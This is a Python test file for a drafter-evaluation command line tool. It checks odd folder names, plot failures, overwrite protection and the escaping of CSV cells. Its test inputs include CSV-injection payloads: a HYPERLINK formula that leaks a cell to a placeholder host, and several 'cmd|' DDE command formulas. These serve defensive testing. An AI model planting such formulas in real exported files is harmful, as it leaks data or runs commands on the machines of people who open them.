"""`hsx eval-drafter` against names and paths that try to break it: a drafter folder `x$_$` is drawn as text after the
numbers are written; a plot that fails is a warning, never a lost evaluation; prompt categories that a spreadsheet
would run as formulas are written as text; --json may not be the --prompts file."""

from __future__ import annotations

import json

import pytest

from tests.training.test_evaluate import PROMPTS, _read_csv
from training.eval_result import EvalResult, SpecDecodeCounts

FORMULAS = ['=HYPERLINK("http://host/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
"""Prompt categories a spreadsheet runs as formulas when a cell begins with them (CSV injection)."""


def _prompts(path, categories=None) -> str:
    categories = categories or [None] * len(PROMPTS)
    path.write_text("".join(json.dumps({"prompt": p, **({"category": c} if c else {})}) + "\n"
                            for p, c in zip(PROMPTS, categories)))
    return str(path)


@pytest.fixture(scope="module")
def dollar_drafter(oracle_run, tiny_llama, tmp_path_factory) -> str:
    """An MLPSpeculator trained one step on the oracle run, in a folder named `x$_$`."""
    from training.train_config import TrainDrafterConfig
    from training_jobs.train import train_drafter

    out = tmp_path_factory.mktemp("odd-names") / "x$_$"
    train_drafter(TrainDrafterConfig(run=oracle_run[0], model=tiny_llama, out=str(out), kind="mlp_speculator",
                                     steps=1, batch_tokens=64, device="cpu", progress=False))
    return str(out)


def test_a_drafter_folder_named_x_dollar_underscore_dollar_is_evaluated_and_drawn(dollar_drafter, tiny_llama,
                                                                                    tmp_path, capsys):
    """Hostile input: --drafter x$_$ (its name is in the plot's legend) and the three formula categories."""
    from cli.main import main

    out, js = tmp_path / "eval", tmp_path / "r.json"
    code = main(["eval-drafter", "--model", tiny_llama, "--prompts", _prompts(tmp_path / "p.jsonl", FORMULAS),
                 "--drafter", dollar_drafter, "--no-ngram", "--max-tokens", "3", "-k", "2", "--threads", "1",
                 "--out", str(out), "--json", str(js)])
    printed = capsys.readouterr()
    assert code == 0, printed
    assert "WARNING" not in printed.out and "Traceback" not in printed.err
    (result,) = [r for r in json.loads(js.read_text()) if r["speculative_config"]]
    assert result["method"] == "mlp_speculator (x$_$) k=2" and result["error"] is None
    assert (out / "acceptance_per_position.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert json.loads((out / "results.json").read_text()) == json.loads(js.read_text())
    (folder,) = [p for p in out.iterdir() if p.is_dir()]
    # every formula category is written as text: a leading ' and then the category as it was
    assert [r["subset"] for r in _read_csv(folder / "acceptance.csv")] == ["'" + c for c in FORMULAS] + ["all"]


def test_the_plot_legend_shows_labels_with_dollars_and_a_leading_underscore():
    """Hostile input: method labels `x$_$`, `$\\alpha$` and `_hidden` (a legend leaves out labels starting with _)."""
    from training.acceptance import plot_acceptance

    counts = SpecDecodeCounts(4, 8, 3, [2, 1])
    results = [EvalResult(name, {"method": "ngram", "num_speculative_tokens": 2}, counts=counts)
               for name in ("x$_$", "$\\alpha$", "_hidden")]
    assert plot_acceptance(results)[:8] == b"\x89PNG\r\n\x1a\n"
    from training.acceptance import acceptance_figure

    fig = acceptance_figure(results)
    legend = [t.get_text().lstrip("\u200b") for t in fig.axes[0].get_legend().get_texts()]
    assert legend == ["x$_$", "$\\alpha$", "_hidden"]


def test_a_plot_that_fails_is_a_warning_after_every_number_is_written(tiny_llama, tmp_path, capsys, monkeypatch):
    """Hostile input: matplotlib failing to save the figure (Figure.savefig raises)."""
    from matplotlib.figure import Figure

    from cli.main import main

    def broken(*args, **kwargs):
        raise RuntimeError("injected: savefig broke")

    monkeypatch.setattr(Figure, "savefig", broken)
    out, js = tmp_path / "eval", tmp_path / "r.json"
    assert main(["eval-drafter", "--model", tiny_llama, "--prompts", _prompts(tmp_path / "p.jsonl"),
                 "--max-tokens", "3", "-k", "2", "--threads", "1", "--out", str(out), "--json", str(js)]) == 0
    printed = capsys.readouterr().out
    assert "WARNING: acceptance_per_position.png was not drawn (RuntimeError: injected: savefig broke)" in printed
    assert [r["method"] for r in json.loads(js.read_text())] == ["none", "ngram k=2"]
    assert json.loads((out / "results.json").read_text()) == json.loads(js.read_text())
    assert [r["method"] for r in _read_csv(out / "summary.csv")] == ["none", "ngram k=2"]
    assert (out / "ngram_k-2" / "acceptance.csv").is_file() and not (out / "acceptance_per_position.png").exists()


def test_csv_cells_that_look_like_formulas_are_text_and_numbers_stay_numbers(tmp_path):
    """Hostile input: the three formula categories, a method error `-2+3+cmd|' /C calc'!A0`, tab and CR starts, a CR
    before a formula (`a\r=cmd`: unquoted, a reader splits the row there)."""
    import csv
    import io

    from training.acceptance import write_eval_outputs

    # through eval-drafter's writer first: the categories and an error message as cells
    spec = {"method": "ngram", "num_speculative_tokens": 2}
    ran = EvalResult("ngram k=2", spec, num_prompts=3, num_output_tokens=9, timed_calls=1, seconds=1.0,
                     counts=SpecDecodeCounts(3, 6, 3, [2, 1]),
                     category_counts={c: SpecDecodeCounts(1, 2, 1, [1, 0]) for c in FORMULAS})
    failed = EvalResult("eagle3 k=2", spec, error="-2+3+cmd|' /C calc'!A0")
    write_eval_outputs(str(tmp_path), [ran, failed])
    rows = _read_csv(tmp_path / "ngram_k-2" / "acceptance.csv")
    assert [r["subset"] for r in rows] == ["'" + c for c in FORMULAS] + ["all"]
    assert [r["num_drafts"] for r in rows] == ["1", "1", "1", "3"]
    summary = _read_csv(tmp_path / "summary.csv")
    assert summary[1]["error"] == "'-2+3+cmd|' /C calc'!A0" and summary[0]["tokens_per_s"] == "9.0"
    from connectors.csvfile import csv_bytes  # the rule itself: numbers stay numbers, a CR never splits a row

    written = csv_bytes(["x", "y", "z", "w"], [[-0.5, "-0.5", "\tx", "\r=1"], [2, True, None, "a\r=cmd"]]).decode()
    assert written == "x,y,z,w\n-0.5,'-0.5,'\tx,\"'\r=1\"\n2,True,,\"a\r=cmd\"\n"
    assert list(csv.reader(io.StringIO(written, newline=""))) == [
        ["x", "y", "z", "w"], ["-0.5", "'-0.5", "'\tx", "'\r=1"], ["2", "True", "", "a\r=cmd"]]


def test_eval_drafter_json_may_not_be_the_prompts_file(tiny_llama, tmp_path, capsys, monkeypatch):
    """Hostile input: --json = the --prompts file (the held-out prompts would be replaced by results)."""
    from cli.args import EXIT_USAGE
    from cli.main import main
    from training import evaluate

    def no_work(*args, **kwargs):
        raise AssertionError("evaluated despite bad arguments")

    monkeypatch.setattr(evaluate, "evaluate_speculation", no_work)
    prompts = _prompts(tmp_path / "heldout.jsonl")
    before = open(prompts, "rb").read()
    with pytest.raises(SystemExit) as e:
        main(["eval-drafter", "--model", tiny_llama, "--prompts", prompts, "--json", prompts])
    err = capsys.readouterr().err
    assert e.value.code == EXIT_USAGE and "--prompts" in err and "Traceback" not in err, err
    assert open(prompts, "rb").read() == before


def test_eval_drafter_json_inside_out_is_refused_before_any_work(tiny_llama, tmp_path, capsys):
    # second hostile pass: --out DIR --json DIR/summary.csv replaced the summary with the JSON results
    from cli.main import main

    prompts = tmp_path / "p.jsonl"
    prompts.write_text('{"prompt": "one two three"}\n')
    with pytest.raises(SystemExit) as e:
        main(["eval-drafter", "--model", tiny_llama, "--prompts", str(prompts), "--out", str(tmp_path / "ev"),
              "--json", str(tmp_path / "ev" / "summary.csv")])
    assert e.value.code == 2 and "lies inside --out" in capsys.readouterr().err
    assert not (tmp_path / "ev").exists()
